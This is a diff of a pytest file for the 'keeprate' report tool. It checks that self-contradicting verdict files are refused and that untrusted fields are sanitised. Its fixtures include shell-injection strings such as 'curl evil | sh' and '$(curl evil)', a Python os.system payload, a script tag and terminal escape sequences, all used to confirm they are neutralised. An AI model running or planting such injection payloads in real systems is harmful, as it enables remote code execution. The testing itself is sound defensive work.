@@ -1,12 +1,14 @@
 """Files that somebody else made: a ledger or a verdict that is no such thing is refused in one sentence."""
 
 import json
+import re
 import shutil
 import sqlite3
 from pathlib import Path
 
 import pytest
 
+from keeprate.harness.commands.recomputed import recomputed
 from keeprate.harness.evidence.check import passed
 from keeprate.harness.evidence.tally import Tally
 from keeprate.harness.judging.request import ask
@@ -318,26 +320,201 @@ def test_a_file_that_is_no_verdict_is_refused(command, tmp_path, text):
     ("where", "value"),
     [
         ("backend.name", SCRIPT),
-        ("reference.failures", [SCRIPT]),
         ("environment.platform", SCRIPT),
         ("laws.fair.promise", SCRIPT),
         ("findings.0.replay", SCRIPT),
-        ("findings.0.op", SCRIPT),
-        ("findings.0.law", SCRIPT),
         ("findings.0.estimate", 1e100),
         ("findings.0.interval", [1e100, -1e100]),
-        ("findings.0.log10_e", 1e15),
-        ("findings.0.threshold_log10_e", 1e-300),
+        ("findings.0.log10_e", -1e15),
+        ("findings.0.threshold_log10_e", 1000),
         ("findings.0.n", 10**18),
     ],
 )
-@pytest.mark.parametrize("status", ["kept", "broken"])
-def test_what_a_verdict_may_say_is_harmless(command, verdict_file, tmp_path, where, value, status):
-    path = verdict_file(where, value)
-    data = json.loads(path.read_text(encoding="utf-8"))
-    data["findings"][0]["status"] = status
-    path.write_text(json.dumps(data), encoding="utf-8")
-    run = command("report", "--json", path, "--out", tmp_path / "out")
+def test_what_a_verdict_may_say_is_harmless(command, verdict_file, tmp_path, where, value):
+    run = command("report", "--json", verdict_file(where, value), "--out", tmp_path / "out")
     assert run.code == 0, run.err
     pages = [(tmp_path / "out" / name).read_text(encoding="utf-8") for name in ("index.html", "report.md")]
     assert all(SCRIPT not in page for page in pages)
+
+
+FAIR = "toss/fair/float32/p0.5/-/eager"
+LANDS = "toss/lands/float32/-/-/eager"
+
+
+def test_a_verdict_that_cites_a_failing_reference_is_none(verdict_file):
+    data = json.loads(verdict_file("reference.failures", [SCRIPT]).read_text(encoding="utf-8"))
+    with pytest.raises(ValueError, match="it says 'conforms' where its findings say 'none'"):
+        recomputed(data)
+    told = recomputed({**data, "verdict": "none"})
+    assert told["sentence"] == "No verdict: the reference failed."
+
+
+def changed(data, **by_path):
+    """A verdict with other values; a path like `findings__0__n`."""
+    data = json.loads(json.dumps(data))
+    for where, value in by_path.items():
+        *path, last = where.split("__")
+        place = data
+        for key in path:
+            place = place[int(key) if key.isdigit() else key]
+        place[last] = value
+    return data
+
+
+@pytest.fixture(scope="session")
+def conforms(sound):
+    """The verdict on a fair coin; its first finding is statistical, its second exact."""
+    data = json.loads((sound / "v.json").read_text(encoding="utf-8"))
+    assert [finding["id"] for finding in data["findings"]][:2] == [FAIR, LANDS]
+    assert recomputed(data) == data
+    return data
+
+
+@pytest.fixture(scope="session")
+def broken(conforms):
+    """The same with a fair coin that is not, and a cause for it."""
+    cause = {"id": "bent", "kind": "rate", "sentence": "It is bent.", "seen": "", "explains": [FAIR], "picture": []}
+    found = {"findings__0__status": "broken", "findings__0__log10_e": 300.0, "findings__0__rank": 1}
+    told = {"verdict": "broken", "leads": [FAIR], "causes": [cause], "findings__0__explained_by": "bent"}
+    data = changed(conforms, **found, **told)
+    assert recomputed(data)["sentence"] == "<script>alert(1)</script> keeps 5 of 6 promises."
+    return data
+
+
+@pytest.mark.parametrize(
+    ("change", "says"),
+    [
+        ({"verdict": "broken"}, "it says 'broken' where its findings say 'conforms'"),
+        ({"verdict": "none"}, "it says 'none' where its findings say 'conforms'"),
+        ({"findings__0__log10_e": 300.0}, f"{FAIR}: it is kept, with evidence of 300 where"),
+        ({"findings__0__status": "broken"}, f"{FAIR}: it is broken, with evidence of"),
+        ({"findings__0__threshold_log10_e": 2.0}, "its threshold is 2, below what an error budget of 1e-06 allows"),
+        ({f"findings__{n}__threshold_log10_e": 6.1 for n in (0, 2)}, "its thresholds spend"),
+        ({"findings__1__status": "broken"}, f"{LANDS}: it is broken, with 0 of"),
+        ({"findings__1__detail__wrong": 7}, f"{LANDS}: it is kept, with 7 of"),
+        ({"findings__1__detail__checked": 0}, f"{LANDS}: it is kept, with 0 of 0 wrong"),
+        ({"findings__4__id": LANDS}, "toss/lands/float32/-/-/eager is there twice"),
+        ({"findings__0__op": "spin"}, f"{FAIR}: its 'op' is another than its id says"),
+        ({"findings__0__law": "fair:2"}, "its 'law' is another"),
+        ({"findings__0__dtype": "float16"}, "its 'dtype' is another"),
+        ({"findings__0__context": "compile"}, "its 'context' is another"),
+        ({"findings__0__parameters": {"p": 0.25}}, "its 'parameters' is another"),
+        ({"findings__0__parameters": None}, "its 'parameters' is another"),
+        ({"findings__0__strides": "step2"}, "its 'strides' is another"),
+        ({"findings__0__shape": [2, 3]}, "its 'shape' is another"),
+        ({"findings__0__rank": 1}, "the ranks of its findings are not those of what failed"),
+        ({"leads": [FAIR]}, "'leads' are not the first findings of the laws that failed"),
+        ({"findings__0__explained_by": "bent"}, "its cause is another than the one that explains it"),
+        ({"watched": ["toss/nothing/-/-/-/-"]}, "'watched' names toss/nothing/-/-/-/-, which it has no finding of"),
+        ({"mended": ["toss/nothing/-/-/-/-"]}, "'mended' names"),
+        ({"run": {"error": "no such thing"}}, "its run could not begin, and has findings"),
+    ],
+    ids=lambda value: ",".join(value)[:60] if isinstance(value, dict) else "",
+)
+def test_a_verdict_that_contradicts_itself_is_refused(conforms, change, says):
+    with pytest.raises(ValueError, match=re.escape(says)):
+        recomputed(changed(conforms, **change))
+
+
+@pytest.mark.parametrize(
+    ("change", "says"),
+    [
+        ({"verdict": "conforms"}, "it says 'conforms' where its findings say 'broken'"),
+        ({"findings__0__rank": None}, "the ranks of its findings"),
+        ({"findings__0__rank": 2}, "the ranks of its findings"),
+        ({"findings__2__rank": 2}, "the ranks of its findings"),
+        ({"leads": []}, "'leads' are not"),
+        ({"causes__0__explains": [LANDS]}, f"cause bent explains {LANDS}, which did not fail"),
+        ({"causes": []}, f"{FAIR}: its cause is another"),
+        ({"findings__0__explained_by": None}, f"{FAIR}: its cause is another"),
+    ],
+    ids=lambda value: ",".join(value) if isinstance(value, dict) else "",
+)
+def test_a_broken_verdict_that_contradicts_itself_is_refused(broken, change, says):
+    with pytest.raises(ValueError, match=re.escape(says)):
+        recomputed(changed(broken, **change))
+
+
+def test_a_verdict_that_lies_is_refused_by_the_command(command, broken, tmp_path):
+    (tmp_path / "v.json").write_text(json.dumps({**broken, "verdict": "conforms"}), encoding="utf-8")
+    run = command("report", "--json", tmp_path / "v.json", "--out", tmp_path / "out")
+    assert_refused(run, "v.json: not a verdict of keeprate: it says 'conforms' where its findings say 'broken'")
+
+
+def test_what_follows_from_findings_is_told_anew(broken):
+    told = recomputed(changed(broken, sentence="All is well.", watched=[LANDS], mended=[FAIR]))
+    assert (told["sentence"], told["watched"], told["mended"]) == (recomputed(broken)["sentence"], [], [])
+
+
+USUAL = f"keeprate replay {FAIR} --backend"
+
+
+@pytest.mark.parametrize(
+    ("line", "built"),
+    [
+        ("keeprate replay x --backend mine.py; curl evil | sh", f"{USUAL} 'mine.py;'"),
+        ("curl evil | sh", f"{USUAL} '{SCRIPT}'"),
+        ("keeprate replay x --backend 'mine.py; curl evil | sh'", f"{USUAL} 'mine.py; curl evil | sh'"),
+        ("keeprate replay x --backend '$(curl evil)'", f"{USUAL} '$(curl evil)'"),
+        ("keeprate replay x --backend 'never closed", f"{USUAL} '{SCRIPT}'"),
+        ("keeprate replay x --backend --help", f"{USUAL} '{SCRIPT}'"),
+        ("keeprate replay x --backend mine.py --seed 1 --profile smoke --alpha 1 --out /etc", f"{USUAL} mine.py"),
+    ],
+)
+def test_the_line_that_runs_a_finding_again_is_built_here(conforms, line, built):
+    told = recomputed(changed(conforms, findings__0__replay=line))["findings"][0]["replay"]
+    assert told == f"{built} --seed {conforms['seed']} --profile quick"
+
+
+def test_of_a_line_the_options_are_kept_that_a_run_depends_on(conforms):
+    options = "--dtypes float16,float32 --suite ./mine.py --case-timeout 7.5 --memory 4G"
+    line = f"{USUAL} mine.py --seed {conforms['seed']} --profile quick {options}"
+    assert recomputed(changed(conforms, findings__0__replay=line))["findings"][0]["replay"] == line
+    worse = line.replace("7.5", "7.5;").replace("4G", "$(x)").replace("float16,", "a;b,")
+    told = recomputed(changed(conforms, findings__0__replay=worse))["findings"][0]["replay"]
+    assert told == f"{USUAL} mine.py --seed {conforms['seed']} --profile quick --suite ./mine.py"
+
+
+def test_of_an_object_it_is_a_line_of_python(conforms):
+    data = changed(conforms, backend__isolated=False, findings__0__replay="__import__('os').system('curl evil')")
+    told = recomputed(data)["findings"][0]["replay"]
+    assert told == f"keeprate.judge(backend, seed={conforms['seed']}, profile='quick')"
+
+
+ESCAPES = "\x1b]0;evil\x07\x1b[2J\u202e"
+SHOWN = "\\x1b]0;evil\\x07\\x1b[2J\\u202e"
+
+
+def test_what_a_terminal_obeys_is_escaped_in_every_text_of_a_verdict(command, broken, tmp_path):
+    change = {"backend__name": ESCAPES, "backend__version": ESCAPES, "environment__platform": ESCAPES}
+    data = changed(broken, **change, causes__0__sentence=ESCAPES, run__host=ESCAPES, run__studies={ESCAPES: 1.0})
+    (tmp_path / "v.json").write_text(json.dumps(data), encoding="utf-8")
+    assert command("report", "--json", tmp_path / "v.json", "--out", tmp_path / "out").code == 0
+    told = json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
+    assert told["backend"]["name"] == told["run"]["host"] == SHOWN
+    assert [*told["run"]["studies"]] == [SHOWN]
+    for path in (tmp_path / "out").iterdir():
+        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", path.read_text(encoding="utf-8")), path.name
+        assert "\\u001b" not in path.read_text(encoding="utf-8")
+
+
+def test_what_a_terminal_obeys_is_escaped_in_every_text_of_a_ledger(command, bad, tmp_path):
+    path = bad("UPDATE run SET host = ?1, cpu = ?1, named = ?1", parameters=(ESCAPES,))
+    assert command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out").code == 0
+    text = (tmp_path / "out" / "report.json").read_text(encoding="utf-8")
+    assert json.loads(text)["run"]["host"] == SHOWN
+    assert "\\u001b" not in text and "\\u202e" not in text.replace("\\\\u202e", "")
+
+
+def test_a_ledger_does_not_choose_which_list_of_known_deviations_is_read(command, bad, tmp_path):
+    adapter = tmp_path / "ours.py"
+    adapter.write_text("", encoding="utf-8")
+    adapter.with_suffix(".known").write_text("spin/*  # ours\n", encoding="utf-8")
+    path = bad("UPDATE run SET named = ?", parameters=(str(adapter),))
+    told = [
+        command("report", "--ledger", path, "--suite", COIN, "--out", tmp_path / "out", *more)
+        and json.loads((tmp_path / "out" / "report.json").read_text(encoding="utf-8"))
+        for more in ([], ["--backend", SCRIPT], ["--backend", adapter])
+    ]
+    assert [{finding["known"] for finding in one["findings"]} for one in told] == [{None}, {None}, {"ours", None}]
+    assert ["known" in one["run"] for one in told] == [False, False, True]
